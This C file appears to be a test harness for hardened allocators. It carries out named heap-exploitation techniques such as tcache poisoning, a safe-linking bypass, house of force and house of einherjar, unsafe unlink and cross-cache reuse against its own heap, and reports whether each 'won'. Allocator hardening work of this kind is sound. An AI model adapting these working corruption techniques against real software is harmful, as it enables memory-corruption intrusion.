// Attacks upon an allocator that have names, each as somebody would write it who can write to the
// program's heap: `attacks NAME`. It says "won" if the attacker has got what the attack is for, and
// "lost" if he has not; an allocator that notices stops the program before. Each begins like a
// program that has run for a while.
#include <stdbool.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

// The compiler is to know nothing of what these return and take.
static void* (*volatile take)(size_t) = malloc;
static void (*volatile give)(void*) = free;

enum { kMany = 4096, kSize = 48 };
static char* herd[kMany];

// Where the attacker wants an object to be: among what the program trusts.
static uint64_t target[512] __attribute__((aligned(4096)));

static bool is_target(const char* p) {
  return p >= (char*)target - 64 && p < (char*)target + sizeof(target);
}

static bool target_comes(size_t size) {
  bool came = false;
  for (int i = 0; i < kMany; i++) came |= is_target(take(size));
  return came;
}

static void take_herd(size_t size) {
  for (int i = 0; i < kMany; i++) memset(herd[i] = take(size), 'S', size);
}

// Whether one of the next objects of `size` shares a byte with one of the herd, or with another.
static int by_address(const void* a, const void* b) {
  const char* const x = *(char* const*)a;
  const char* const y = *(char* const*)b;
  return (x > y) - (x < y);
}
static bool overlaps(size_t size, size_t herds_size) {
  enum { kNext = 1024 };
  static char* next[kNext];
  for (int i = 0; i < kNext; i++) next[i] = take(size);
  qsort(next, kNext, sizeof(char*), by_address);
  bool found = false;
  for (int i = 1; i < kNext; i++) found |= next[i] - next[i - 1] < (ptrdiff_t)size;
  for (int i = 0; i < kMany; i++) {
    for (int k = 0; herd[i] != NULL && k < kNext; k++) {
      found |= next[k] < herd[i] + herds_size && herd[i] < next[k] + size;
    }
  }
  return found;
}

// The two of the herd that lie nearest to each other: the second lies behind the first.
static int first, second;
static void find_neighbours(void) {
  static char* sorted[kMany];
  memcpy(sorted, herd, sizeof(sorted));
  qsort(sorted, kMany, sizeof(char*), by_address);
  int best = 1;
  for (int i = 2; i < kMany; i++) {
    if (sorted[i] - sorted[i - 1] < sorted[best] - sorted[best - 1]) best = i;
  }
  for (int i = 0; i < kMany; i++) {
    if (herd[i] == sorted[best - 1]) first = i;
    if (herd[i] == sorted[best]) second = i;
  }
}

// tcache poisoning, fastbin poisoning: the link in a freed object is overwritten, plainly or as
// glibc hides it ("safe linking"); the list then leads to the target.
static bool poison(bool hidden) {
  char* const a = take(kSize);
  char* const b = take(kSize);
  give(a);
  give(b);
  for (int i = 0; i < 2; i++) {
    uint64_t link = (uintptr_t)target;
    if (hidden) link ^= (uintptr_t)(b + 8 * i) >> 12;
    ((volatile uint64_t*)b)[i] = link;
  }
  return target_comes(kSize);
}
static bool tcache_poisoning(void) { return poison(false); }
static bool safe_linking_bypass(void) { return poison(true); }

// fastbin dup: a, b, a are freed, so that two owners get one object.
static bool fastbin_dup(void) {
  char* const a = take(kSize);
  char* const b = take(kSize);
  give(a);
  give(b);
  give(a);
  herd[0] = NULL;
  return overlaps(kSize, kSize);
}

// The same in a program that has run for long, with many frees between the two.
static bool fastbin_dup_later(void) {
  for (int i = 0; i < 100 * 1000; i++) give(take(kSize));
  char* const a = take(kSize);
  take_herd(kSize);
  give(a);
  for (int i = 0; i < 64; i++) {
    give(herd[i]);
    herd[i] = NULL;
  }
  give(a);
  return overlaps(kSize, kSize);
}

// House of botcake: a freed block is joined to its neighbour, then freed once more by itself; a
// longer object then lies over one of its own length.
static bool house_of_botcake(void) {
  enum { kLong = 200 * 1000 };
  char* const a = take(kLong);
  char* const b = take(kLong);
  give(a);
  give(b);
  give(a);
  char* const one = take(kLong);
  char* const other = take(2 * kLong);
  const char* const third = take(kLong);
  return one == third || (one < other + 2 * kLong && other < one + kLong);
}

// Unsafe unlink: a free chunk made up within an object, whose neighbour believes in it when it is
// freed, and writes to the pointer through which the attacker then writes anywhere.
static char* pointer[4];
static bool unsafe_unlink(void) {
  take_herd(kSize);
  find_neighbours();
  char* const a = pointer[3] = herd[first];
  volatile uint64_t* const chunk = (volatile uint64_t*)a;
  chunk[0] = 0;
  chunk[1] = 48 | 1;
  chunk[2] = (uintptr_t)&pointer[0];
  chunk[3] = (uintptr_t)&pointer[1];
  volatile uint64_t* const header = (volatile uint64_t*)(herd[second] - 16);
  header[0] = 48;
  header[1] &= ~(uint64_t)1;
  give(herd[second]);
  return pointer[3] != a;
}

// House of spirit: a chunk made up where the attacker wants an object, on the stack or among static
// variables, is given to free.
static bool house_of_spirit(void) {
  for (size_t i = 0; i < sizeof(target) / 8; i++) target[i] = i % 8 == 1 ? 65 : 0;
  give(target + 2);
  return target_comes(kSize);
}
static bool house_of_spirit_stack(void) {
  uint64_t fake[64] __attribute__((aligned(64)));
  for (size_t i = 0; i < 64; i++) fake[i] = i % 8 == 1 ? 65 : 0;
  give(fake + 2);
  bool came = false;
  for (int i = 0; i < kMany; i++) {
    const char* const p = take(kSize);
    came |= p >= (char*)fake && p < (char*)(fake + 64);
  }
  return came;
}

// House of force: what is left of the heap is made endless, and one huge object moves its end to
// just in front of the target.
static bool house_of_force(void) {
  take_herd(kSize);
  char* last = herd[0];
  for (int i = 0; i < kMany; i++) last = herd[i] > last ? herd[i] : last;
  for (int i = 0; i < 2; i++) ((volatile uint64_t*)(last + kSize))[i] = UINT64_MAX;
  const void* const between = take((uintptr_t)target - (uintptr_t)last - 4 * kSize);
  return between != NULL && target_comes(kSize);
}

// House of einherjar, house of lore: the header in front of an object says that a free chunk lies
// before it, far away; freeing the object joins them, and the target is in the middle.
static bool house_of_einherjar(void) {
  take_herd(kSize);
  find_neighbours();
  target[0] = 0;
  target[1] = (uintptr_t)herd[second] - 16 - (uintptr_t)target;
  target[2] = target[3] = (uintptr_t)target;
  volatile uint64_t* const header = (volatile uint64_t*)(herd[second] - 16);
  header[0] = target[1];
  header[1] &= ~(uint64_t)1;
  give(herd[second]);
  return target_comes(kSize) || target_comes(4096);
}

// Poison null byte: one 0 beyond an object shortens the chunk behind it, so that later objects lie
// over one that is in use.
static bool poison_null_byte(void) {
  take_herd(kSize);
  find_neighbours();
  ((volatile char*)herd[first])[kSize] = 0;
  give(herd[second]);
  give(herd[first]);
  herd[first] = herd[second] = NULL;
  return overlaps(kSize, kSize) || overlaps(200, kSize);
}

// Off by one: the same byte, to change what the neighbour holds, and nobody notices.
static bool off_by_one(void) {
  take_herd(kSize);
  find_neighbours();
  ((volatile char*)herd[first])[kSize] = 0;
  give(herd[first]);
  return herd[second][0] == 0;
}

// Overlapping chunks: the size in front of an object is changed before it is freed.
static bool overlapping_chunks(void) {
  take_herd(kSize);
  find_neighbours();
  ((volatile uint64_t*)herd[second])[-1] = 4 * 64 | 1;
  give(herd[second]);
  herd[second] = NULL;
  return overlaps(4 * 64 - 16, kSize) || overlaps(kSize, kSize);
}

// Metadata beside the heap: a write that runs on for pages beyond the last object, to what the
// allocator keeps of it. It must not make the allocator hand out an object twice.
static bool metadata_overwrite(void) {
  take_herd(kSize);
  char* last = herd[0];
  for (int i = 0; i < kMany; i++) last = herd[i] > last ? herd[i] : last;
  for (int i = 0; i < 4096; i++) ((volatile char*)last)[kSize + i] = -1;
  for (int i = 0; i < kMany; i += 2) {
    give(herd[i]);
    herd[i] = NULL;
  }
  return overlaps(kSize, kSize);
}

// Use after free, at once: the next object of its size lies where the stale pointer leads.
static bool same_size_reuse(void) {
  char* const stale = take(kSize);
  give(stale);
  return take(kSize) == stale;
}

// Heap spraying upon a stale pointer: thousands of objects, and nothing else is freed.
static bool heap_spray(void) {
  char* const stale = take(kSize);
  memset(stale, 'S', kSize);
  give(stale);
  for (int i = 0; i < kMany; i++) memset(take(kSize), 'X', kSize);
  return *(volatile char*)stale == 'X';
}

// Cross-cache attack: all objects around a stale pointer are freed, and their memory comes back as
// objects of another size, which the attacker fills.
static bool cross_cache(void) {
  take_herd(kSize);
  for (int i = 0; i < kMany; i++) give(herd[i]);
  for (int i = 0; i < kMany; i++) memset(take(2000), 'X', 2000);
  bool seen = false;
  for (int i = 0; i < kMany; i++) seen |= *(volatile char*)herd[i] == 'X';
  return seen;
}

// Heap feng shui: a hole is made in front of the victim, for the object that is to be written
// beyond. Won if that works every second time.
static bool feng_shui(void) {
  int hits = 0;
  for (int round = 0; round < 100; round++) {
    take_herd(kSize);
    find_neighbours();
    give(herd[first]);
    hits += (char*)take(kSize) == herd[first];
    for (int i = 0; i < kMany; i++) {
      if (i != first) give(herd[i]);
    }
  }
  return hits >= 50;
}

// The same without a hole: objects that are made one after another lie side by side.
static bool sequential_layout(void) {
  take_herd(kSize);
  int hits = 0;
  for (int i = 1; i < kMany; i++) hits += herd[i] - herd[i - 1] > 0 && herd[i] - herd[i - 1] <= 64;
  return hits >= kMany / 2;
}

static const struct {
  const char* name;
  bool (*wins)(void);
} kAttacks[] = {
#define ATTACK(name) {#name, name}
    ATTACK(tcache_poisoning),   ATTACK(safe_linking_bypass),   ATTACK(fastbin_dup),
    ATTACK(fastbin_dup_later),  ATTACK(house_of_botcake),      ATTACK(unsafe_unlink),
    ATTACK(house_of_spirit),    ATTACK(house_of_spirit_stack), ATTACK(house_of_force),
    ATTACK(house_of_einherjar), ATTACK(poison_null_byte),      ATTACK(off_by_one),
    ATTACK(overlapping_chunks), ATTACK(metadata_overwrite),    ATTACK(same_size_reuse),
    ATTACK(heap_spray),         ATTACK(cross_cache),           ATTACK(feng_shui),
    ATTACK(sequential_layout),
};

int main(int argc, char** argv) {
  for (int i = 0; i < 500; i++) give(take(kSize));  // a while
  for (size_t i = 0; i < sizeof(kAttacks) / sizeof(kAttacks[0]); i++) {
    if (argc == 1) puts(kAttacks[i].name);
    if (argc != 2 || strcmp(argv[1], kAttacks[i].name) != 0) continue;
    // Written at once: printf would allocate.
    const bool wins = kAttacks[i].wins();
    const ssize_t written = write(1, wins ? "won\n" : "lost\n", wins ? 4 : 5);
    _exit(written > 0 ? 0 : 2);
  }
  return argc == 1 ? 0 : 2;
}
